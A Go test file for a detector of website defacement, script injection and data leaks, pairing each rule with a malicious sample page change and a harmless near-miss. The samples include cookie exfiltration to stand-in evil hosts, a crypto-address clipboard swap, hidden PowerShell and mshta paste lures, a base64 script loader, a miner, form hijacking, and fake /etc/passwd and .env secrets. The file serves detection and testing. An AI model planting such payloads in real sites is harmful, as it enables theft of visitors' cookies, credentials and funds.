package compare

import (
	"image"
	"image/color"
	"slices"
	"strings"
	"testing"
)

// trial is what one rule must find, and the nearest harmless thing that it must not.
type trial struct {
	rule     string
	verdict  Verdict // of the bad one
	bad      func(testing.TB) Look
	harmless func(testing.TB) Look
}

var (
	night = color.RGBA{8, 8, 8, 255}
	day   = color.RGBA{90, 150, 210, 255}
)

const honestWidget = `(function(){var box=document.createElement("div");box.className="w";box.textContent="Share";document.body.appendChild(box)})();`

var trials = []trial{
	{"defacement.account", Suspicious, added("<p>Send the fee to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</p>"), added("<p>Pay the fee of Rs. 1,250,000 to account 36-1123456702 by 2026-11-24</p>")},
	{"defacement.contact", Suspicious, paidTo("write to info@planning.gov.pk", "write to refund.desk@mail.example"), paidTo("10:30", "11:45")},
	{"defacement.title", Alert, replaced("<title>Ministry", "<title>Hacked by QuietFox - Ministry"), replaced("<title>Ministry", "<title>Eid Mubarak - Ministry")},
	{"defacement.dialog", Alert, seen(func(v *View) { v.Dialogs = []string{"H4cked By QuietFox!!"} }), seen(func(v *View) { v.Dialogs = []string{"This site uses cookies"} })},
	{"defacement.phrase", Alert, added("<div>Hacked by QuietFox</div>"),
		added("<p><a href=/news/7>Cyber wing: Website of the ministry hacked by unknown group, says spokesman</a></p>")},
	{"defacement.words", Suspicious, posted("<p>Two of the portals of the province were hacked by foxes of the north and nobody has seen any of them since, in the hills or elsewhere</p>"),
		added("<p>Officials told the press on Monday that two portals of the province were hacked by a group from abroad and have since been restored with the help of the national response team.</p>")},
	{"defacement.picture_phrase", Alert, pictureSays("HACKED BY QUIETFOX", "", "Your security is zero"),
		pictureSays("MINISTRY OF PLANNING", "", "National Conference on Water Security", "Hosted by the Planning Commission, backed by the World Bank", "", "12 to 14 December 2026, Convention Centre, Islamabad")},
	{"defacement.picture_words", Suspicious, pictureSays("WEBSITE OF THE FOREST BOARD", "HACKED BY QUIETFOX"),
		pictureSays("Web site of the forest board", "hacked by a group from abroad, police say", "", "The site was restored within hours, a spokesman said")},
	{"defacement.crew", Suspicious, added("<h2>~ Gh0st_W1nd | N1ghtj4r | Qu13t Fox ~</h2><p>t.me/quiet_foxes_example</p>"),
		added("<h2>YouTube | LinkedIn | WhatsApp | GitHub</h2><p>Join our Telegram channel t.me/planning_example for CS101, FY2025, COVID-19 and 4G news</p>")},
	{"defacement.character", Suspicious, posted("<h2>Rubah yang pendiam datang dari utara dan tidak ada yang bisa melihat kami, karena kami adalah angin untuk kalian</h2>"),
		added("<h2>یوم آزادی مبارک! پاکستان کے تمام شہریوں کو وزارت منصوبہ بندی کی جانب سے مبارک باد اور نیک تمنائیں</h2>")},
	{"defacement.stray", Alert, added("<div>Rubah yang pendiam datang dari utara dan tidak ada yang bisa melihat kami, karena kami adalah angin untuk kalian</div>"),
		added("<div>The office is closed on Friday for the repair of the roof</div>")},
	{"defacement.replaced", Alert, wholePage("~", "<img src=/x.gif><p>silence is the loudest word that the foxes ever said to anybody out here</p>"),
		wholePage("Ministry of Planning, Development and Reform", "<img src=/img/emblem.png><h1>Ministry of Planning, Development and Reform</h1><p>We mourn the loss of life.</p><a href=/about>Continue</a><a href=/projects>Projects</a><a href=/tenders>Tenders</a>")},
	{"defacement.redesign", Suspicious, wholePage("Ministry of Planning, Development and Reform", redesigned), added("<p>One more notice.</p>")},
	{"defacement.emptied", Suspicious, func(t testing.TB) Look { return edited(t, emptied) }, replaced("The Ministry of Planning prepares", "The Ministry now prepares")},
	{"defacement.covered", Suspicious, func(t testing.TB) Look { return covered(t, night) }, func(t testing.TB) Look { return ministryLook(t, 4) }},
	{"defacement.image", Alert, heroPainted("/img/hero.jpg", night), heroPainted("/img/hero-2.jpg", day)},
	{"defacement.logo", Alert, emblemPainted("/img/emblem.png"), ministryAt(4)},
	{"defacement.images", Alert, officePictures("/img/x.jpg"), officePictures("")},
	{"defacement.heading", Suspicious, replaced("<h1>Ministry of Planning, Development and Reform</h1>", "<h1>The river will remember whoever poisoned it</h1>"),
		replaced("<h1>Ministry of Planning, Development and Reform</h1>", "<h1>Ministry of Planning and Special Initiatives</h1>")},
	{"defacement.ticker", Suspicious, added("<marquee>The river will remember</marquee>"), added("<p>The river will remember the flood of 2010</p>")},
	{"defacement.reworded", Suspicious, replaced("The Ministry of Planning prepares the national plan, reviews public sector projects and monitors how they are carried out in all provinces.",
		"As of today the fee for every application is paid to the account below, in advance and in full."),
		replaced("The Ministry of Planning prepares the national plan, reviews", "The Ministry of Planning, with the provinces, prepares the national plan, reviews")},
	{"defacement.picture_only", Alert, func(t testing.TB) Look { return posterPage(t, "Ministry of Planning, Development and Reform") }, ministryAt(4)},
	{"defacement.new_dialog", Suspicious, seen(func(v *View) { v.Dialogs = []string{"Welcome"} }), added("<p>Welcome</p>")},
	{"defacement.dialog_loop", Alert, seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 21) }),
		seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 20) })},
	{"availability.own_page", Suspicious, wholePage("Back soon", "<h1>Under maintenance</h1><p>Our systems are being upgraded tonight, we will be back shortly and thank you for waiting.</p>"),
		added("<p>The portal will be under maintenance on Sunday.</p>")},
	{"injection.skimmer", Alert, added(inlineSkimmer), added(`<script>document.getElementById("search").addEventListener("submit",function(e){e.preventDefault();var q=document.querySelector("input[name=q]").value;
		fetch("/api/search?q="+q).then(function(r){return r.text()}).then(function(t){document.getElementById("main").innerHTML=t})})</script>`)},
	{"injection.copy_swap", Alert, added(`<script>document.addEventListener("copy",function(e){var s=String(getSelection()).replace(/\b0x[0-9a-fA-F]{40}\b/g,"0xF1C7F1C7F1C7F1C7F1C7F1C7F1C7F1C7F1C7F1C7");e.clipboardData.setData("text/plain",s);e.preventDefault()})</script>`),
		added(`<script>document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain",getSelection()+" Read more at "+location.href);e.preventDefault()})</script>`)},
	{"injection.odd_code", Alert, added(`<script>(function(){var t=Date.now();document.addEventListener("click",function(){if(/android/i.test(navigator.userAgent)&&t)new Image().src="https://fresh.evil-host.top/i?"+t})})()</script>`),
		added(`<script>var _q=window._q=window._q||[];_q.push(["trackPageView"]);(function(){var u="https://stats.planning.gov.pk/",g=document.createElement("script");g.async=true;g.src=u+"s.js";document.head.appendChild(g)})()</script>`)},
	{"injection.decoder", Alert, added(attackNamed("decoder")), added(`<script>var label=unescape("caf%E9");document.getElementById("top").title=label;</script>`)},
	{"injection.frame_writer", Alert, added(`<script>document.write('<iframe src="https://kit.evil-gate.top/in" style="display:none"></iframe>')</script>`),
		added(`<script>var f=document.createElement("iframe");f.src="https://www.youtube.com/embed/abc";document.getElementById("main").appendChild(f)</script>`)},
	{"injection.paste_trap", Alert, added(`<script>document.onclick=function(){navigator.clipboard.writeText("powershell -w hidden -c iwr x")}</script>`),
		added(`<script>document.getElementById("copy").onclick=function(){navigator.clipboard.writeText(location.href)}</script>`)},
	{"injection.redirect_script", Alert, added(`<script>setTimeout(function(){window.location.href="https://evil-land.top/win"},10)</script>`),
		added(`<script>if(screen.width<500){window.location.href="/mobile/"}</script>`)},
	{"injection.miner", Alert, external("https://evil-coin.top/m.js", `var m=new CoinHive.Anonymous("k");var n="coinhive.min";m.start();`), external("https://www.planning.gov.pk/js/w.js", honestWidget)},
	{"injection.cookies", Alert, added(`<script>new Image().src="https://log.evil-jar.top/c?c="+escape(document.cookie)</script>`),
		added(`<script>function get(n){return ("; "+document.cookie).split("; "+n+"=").pop()}new Image().src="https://hits.example-count.org/p?l="+get("lang")</script>`)},
	{"injection.loader", Alert, added(`<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9jZG4uZXZpbC10YWcudG9wL2EuanM=");document.head.appendChild(s)</script>`),
		added(`<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly93d3cuZ29vZ2xldGFnbWFuYWdlci5jb20vZ3RhZy9qcw==");document.head.appendChild(s)</script>`)},
	{"injection.script_host", Suspicious, external("https://widgets.example-share.com/w.js", honestWidget), external("https://cdn.jsdelivr.net/npm/swiper@11/swiper.min.js", honestWidget)},
	{"injection.destination", Suspicious, seen(func(v *View) { v.Destinations = []Destination{{"collect.evil-drop.top", 812}} }),
		seen(func(v *View) {
			v.Destinations = []Destination{{"www.google-analytics.com", 812}, {"img.example-cdn.net", 0}}
		})},
	{"injection.hidden_link", Alert, added(`<div style="display:none"><a href="https://x.evil-bet.top/">online casino</a></div>`), added(`<div style="display:none"><a href="/print">Print this page</a></div>`)},
	{"injection.hidden_links", Suspicious, added(`<div style="position:absolute;left:-5000px"><a href="https://a.aaa-one.top/">one</a><a href="https://b.bbb-two.top/">two</a><a href="https://c.ccc-three.top/">three</a></div>`),
		added(`<div style="position:absolute;left:-5000px"><a href="#main">Skip to content</a><a href="/map">Site map</a><a href="/help">Help</a></div>`)},
	{"injection.spam_link", Suspicious, added(`<p><a href="https://x.evil-bet.top/">slot gacor</a></p>`), added(`<p><a href="https://www.psdp-monitor.org/slots">Time slots for hearings</a></p>`)},
	{"injection.spam_text", Alert, added(`<p>situs slot gacor maxwin, togel and judi online with sbobet</p>`), added(`<p>The tribunal heard a petition against an online casino.</p>`)},
	{"injection.spam_title", Alert, replaced("<title>Ministry", "<title>Slot Gacor Maxwin | Ministry"), replaced("<title>Ministry", "<title>Time slots | Ministry")},
	{"injection.frame", Suspicious, added(`<iframe src="https://live.example-stream.com/tv"></iframe>`), added(`<iframe src="https://www.google.com/maps/embed?pb=1"></iframe>`)},
	{"injection.hidden_frame", Alert, added(`<iframe src="https://gate.evil-kit.top/" width=1 height=1></iframe>`), added(`<iframe src="https://www.googletagmanager.com/ns.html" width=0 height=0 style="display:none"></iframe>`)},
	{"injection.form_action", Alert, replaced("action=/login", "action=https://evil-login.top/in"), replaced("action=/login", "action=https://sso.planning.gov.pk/login")},
	{"injection.form_secrets", Suspicious, added(`<form action=/pay method=post><input name=cardnumber><input name=cvv></form>`), added(`<form action=/feedback method=post><input name=name><input name=pincode><textarea name=text></textarea></form>`)},
	{"injection.canonical", Suspicious, seen(func(v *View) { v.Meta.Canonical = "https://www.evil-rank.top/" }), seen(func(v *View) { v.Meta.Canonical = "https://planning.gov.pk/home" })},
	{"injection.icon", Suspicious, seen(func(v *View) { v.Meta.Icon = "https://i.evil-mark.top/i.png" }), seen(func(v *View) { v.Meta.Icon = "https://planning.gov.pk/new.png" })},
	{"injection.manifest", Suspicious, seen(func(v *View) { v.Meta.Manifest = "https://a.evil-app.top/m.json" }), seen(func(v *View) { v.Meta.Manifest = "https://www.planning.gov.pk/site.webmanifest" })},
	{"injection.meta_refresh", Alert, headed(`<meta http-equiv=refresh content="0;url=https://evil-land.top/">`), headed(`<meta http-equiv=refresh content="300;url=/">`)},
	{"injection.base_href", Alert, headed(`<base href="https://evil-base.top/">`), headed(`<base href="https://www.planning.gov.pk/">`)},
	{"injection.redirect", Alert, func(t testing.TB) Look {
		l := wholePage("You won", "<p>Congratulations, click to claim the prize of the day that was kept for you</p>")(t)
		l.View.FinalURL = "https://evil-land.top/win"
		return l
	}, seen(func(v *View) { v.FinalURL = "https://planning.gov.pk/home" })},
	{"injection.download", Alert, seen(func(v *View) {
		v.Downloads = []Download{{"https://evil-file.top/update.exe", "update.exe", "application/octet-stream"}}
	}), added("<a href=/form.pdf>Form</a>")},
	{"injection.program", Alert, added("<div>Your browser is out of date. <a href=https://get.evil-font.top/setup.exe>Install the update</a></div>"),
		added("<div>For the tax form you need <a href=https://get.adobe.com/reader/>Reader</a>; <a href=/files/psid.exe>our calculator</a> can be installed, too.</div>")},
	{"injection.redirect_hop", Suspicious, seen(func(v *View) {
		v.Hops = []Hop{{ministryURL, "script"}, {"https://sort.evil-tds.top/r?c=1", "http"}}
	}), seen(func(v *View) {
		v.Hops = []Hop{{"http://planning.gov.pk/", "http"}, {"https://planning.gov.pk/", "http"}, {"https://login.microsoftonline.com/x", "http"}}
	})},
	{"injection.popup", Suspicious, seen(func(v *View) { v.Popups = []string{"https://win.evil-ads.top/"} }),
		seen(func(v *View) {
			v.Popups = []string{ministryURL + "notice", "https://www.facebook.com/planning", "about:blank", ""}
		})},
	{"injection.popups", Suspicious, seen(func(v *View) { v.Popups = slices.Repeat([]string{"about:blank"}, 10) }),
		seen(func(v *View) { v.Popups = slices.Repeat([]string{ministryURL}, 3) })},
	{"injection.clipboard", Alert, seen(func(v *View) { v.Asks = []Ask{{"clipboard_write", "mshta https://evil-paste.top/x"}} }), ministryAt(4)},
	{"injection.clipboard_read", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"clipboard_read", ""}} }), ministryAt(4)},
	{"injection.permission", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"notification", ""}, {"camera", ""}} }), ministryAt(4)},
	{"injection.service_worker", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"service_worker", "/sw-7f2.js"}} }), ministryAt(4)},
	{"injection.reach_metadata", Alert, seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.254", 80, refusedPrivate, ""}} }),
		seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.253", 80, refusedPrivate, ""}} })},
	{"injection.reach_inside", Suspicious, seen(func(v *View) {
		v.Refused = []Refusal{{"10.0.0.1", 80, refusedPrivate, ""}, {"localhost", 631, refusedPrivate, ""}}
	}),
		seen(func(v *View) { v.Refused = []Refusal{{"www.planning.gov.pk", 443, refusedPrivate, ""}} })},
	{"injection.reach_port", Suspicious, seen(func(v *View) { v.Refused = []Refusal{{"irc.evil-chat.top", 6667, refusedPort, ""}} }),
		seen(func(v *View) { v.Refused = []Refusal{{"stream.planning.gov.pk", 8000, refusedPort, ""}} })},
	{"injection.lure", Alert, added("<p>Verify you are human: press Windows key + R, then press Ctrl + V and press Enter</p>"), added("<p>Press Ctrl + P to print the form.</p>")},
	{"leak.cnic", Alert, added(identities(24)), added("<p>Write your number as 35202-1234567-1, epoch 1700000000000, order 99999-1234567-1.</p>")},
	{"leak.card", Alert, added("<p>4716 0219 8834 5073, 5312-7700-4419-6285, 4929330187260451, 6011730052981145</p>"), added("<p>Tracking 4111111111111112, 5500000000000005 and 9999999999999995; call 0092519201234567</p>")},
	{"leak.iban", Alert, added("<p>" + strings.Join(ibans(12), "</p><p>") + "</p>"), added("<p>Donate to " + ibans(1)[0] + ", not to PK00SCBL0000001123456702</p>")},
	{"leak.mail", Suspicious, added("<p>" + mails(30, "gmail.com") + "</p>"), added("<p>" + mails(9, "planning.gov.pk") + "</p>")},
	{"leak.phone", Suspicious, added("<p>" + mobiles(60) + "</p>"), added("<p>" + mobiles(30) + "</p>")},
	{"leak.passport", Alert, added("<table><tr><th>Name</th><th>Passport No.</th></tr>" + passports(12) + "</table>"),
		added("<p>Tender references KP1002031, KP1002032, KP1002033, KP1002034, KP1002035, KP1002036.</p>")},
	{"leak.passwords", Alert, added("<pre>" + combos(12) + "</pre>"), added("<p>Send your user name, never your password, to " + mails(9, "gmail.com") + "</p>")},
	{"leak.sql_dump", Alert, added("<pre>-- MySQL dump 10.19 Distrib 10.6 DROP TABLE `users`; CREATE TABLE `users` ( `id` int ); INSERT INTO `users` VALUES (1,'amna','x');</pre>"),
		added("<p>The dump truck fleet was inserted into the asset register; see the table of values.</p>")},
	{"leak.server_file", Alert, added("<pre>root:x:0:0:root:/root:/bin/bash daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin www-data:x:33:33::/var/www:/bin/sh</pre>"),
		added("<p>Every account has a line of its own, beginning with the name.</p>")},
	{"leak.log", Alert, added("<pre>" + accessLog(40) + "</pre>"), added("<p>On 12/Mar/2026 the portal served 40,218 requests, most of them with GET.</p>")},
	{"leak.server_status", Alert, added("<h1>Apache Server Status for www.planning.gov.pk</h1><dl><dt>Server uptime: 3 days</dt></dl>"),
		added("<p>The status of the server room was inspected.</p>")},
	{"leak.secrets", Alert, added("<pre>DB_USERNAME=portal_rw\nDB_PASSWORD=Kh4ir!9pur\nAPP_KEY=base64:q0VtT2xkS2V5</pre>"), added("<p>The DATABASE_URL variable is described in the manual.</p>")},
	{"leak.phpinfo", Alert, added("<h1>PHP Version 8.1.2</h1><td>Loaded Configuration File</td>"), added("<p>Runs on PHP Version 8</p>")},
	{"leak.directory", Alert, wholePage("Index of /", "<h1>Index of /</h1><a href=/>Parent Directory</a><a href=backup.zip>backup.zip</a><a href=db.sql>db.sql</a>"), added("<h2>Index of publications</h2>")},
	{"leak.sql_error", Alert, added("<b>Warning: mysqli_query(): (42000/1064)</b> You have an error in your SQL syntax near"), added("<p>A course on MySQL and its SQL syntax begins in May.</p>")},
	{"leak.stack_trace", Alert, added("<pre>Traceback (most recent call last):\n File x</pre>"), added("<p>An exception to the rule was granted.</p>")},
	{"leak.warning", Suspicious, added("<p>Warning: Undefined variable $x in /var/www/html/index.php on line 12</p>"), added("<p>Warning: heavy rain on Monday</p>")},
}

const redesigned = `<div class=shell><section><article><h3>Planning for everyone</h3><div><span>Priorities</span></div></article><aside><dl><dt>Annual plan</dt><dd>Targets for growth</dd></dl></aside></section>
<section><figure><picture><img src=/assets/new.webp></picture><figcaption>Programme office</figcaption></figure></section><section><a href=/about-us>About</a><a href=/work>Work</a><a href=/data>Data</a><a href=/media>Media</a></section></div>`

// emptied keeps all elements and links of the page and says other things in them.
func emptied(page string) string {
	r := strings.NewReplacer("About the ministry", "-", "Projects and schemes", "-", "Tenders", "-", "Contact us", "-", "Ministry of Finance", "-", "Latest notices", "-",
		"The Ministry of Planning prepares the national plan, reviews public sector projects and monitors how they are carried out in all provinces.", "foxes run",
		"Citizens may ask for information about any scheme under the Right of Access to Information Act by writing to the public information officer.", "at night",
		"Block P, Secretariat, Islamabad.", "", "State emblem", "", "Secretariat building", "", "of the development programme", "", "<h1>Ministry of Planning, Development and Reform", "<h1>")
	return r.Replace(page)
}

func attackNamed(name string) string {
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == name })
	return strings.TrimSuffix(attacks[i].do("</body>"), "</body>")
}

// covered is the next look under an overlay: the document stays, the picture is
// another one.
func covered(t testing.TB, ground color.RGBA) Look {
	l := ministryLook(t, 4)
	img := clone(l.Picture)
	fill(img, img.Rect, ground)
	for i := range 30 {
		fill(img, rectOf(Box{int32(37 * i), int32(31 * i), int32(300 - 7*i), int32(20 + 3*i)}), color.RGBA{uint8(8 * i), 120, uint8(240 - 8*i), 255})
	}
	l.Picture = img
	return l
}

func hasRule(r *Report, id string) bool {
	return slices.ContainsFunc(r.Findings, func(f Finding) bool { return f.Rule == id })
}

// A slide that moved, a file that did not load and a window in front of the hero
// are no exchange of it.
func TestImagesThatOnlyLookExchanged(t *testing.T) {
	b := ministryBaseline(t)
	moved := ministryLook(t, 4)
	moved.Picture = painted(1366, 9, 1, 2, 3, 4, 5, 6)
	for i, e := range moved.View.Elements {
		if e.Key == "#hero" {
			moved.View.Elements[i].Box.Y += 160
		}
	}
	blank := heroPainted("/img/hero.jpg", night)(t)
	fill(blank.Picture.(*image.RGBA), rectOf(heroBox), night)
	window := heroPainted("/img/hero.jpg", night)(t)
	window.View.Elements = append(window.View.Elements, Element{Parent: 0, Tag: "img", Src: ministryURL + "mourning.png", Box: Box{300, 300, 600, 250}})
	for name, look := range map[string]Look{"moved": moved, "not loaded": blank, "under a window": window} {
		if r := Compare(b, look, nil); r.Verdict == Alert || name != "under a window" && r.Verdict != Benign {
			t.Errorf("%s: %s", name, describe(r))
		}
	}
}

// Every rule finds what it is for and leaves the nearest harmless thing alone.
func TestRules(t *testing.T) {
	b := ministryBaseline(t)
	reachable := reachableMinistry(t)
	for _, tr := range trials {
		t.Run(tr.rule, func(t *testing.T) {
			b := b
			switch tr.rule {
			case "defacement.contact":
				b = reachable
			case "defacement.images":
				b = officeBaseline()
			}
			r := Compare(b, tr.bad(t), nil)
			if !hasRule(r, tr.rule) || r.Verdict != tr.verdict {
				t.Errorf("bad page: want %s by %s, got %s", tr.verdict, tr.rule, describe(r))
			}
			r = Compare(b, tr.harmless(t), nil)
			if hasRule(r, tr.rule) || r.Verdict == Alert {
				t.Errorf("harmless page: want no %s and no alert, got %s", tr.rule, describe(r))
			}
		})
	}
}

// A rule that is not tried here would be a rule nobody knows to work.
func TestEveryRuleIsTried(t *testing.T) {
	for _, r := range Rules() {
		if !slices.ContainsFunc(trials, func(tr trial) bool { return tr.rule == r.ID }) {
			t.Errorf("rule %s has no trial", r.ID)
		}
		if r.Title == "" || r.Source == "" || r.Severity.Rank() == 0 {
			t.Errorf("rule %s lacks a title, a source or a severity", r.ID)
		}
	}
}
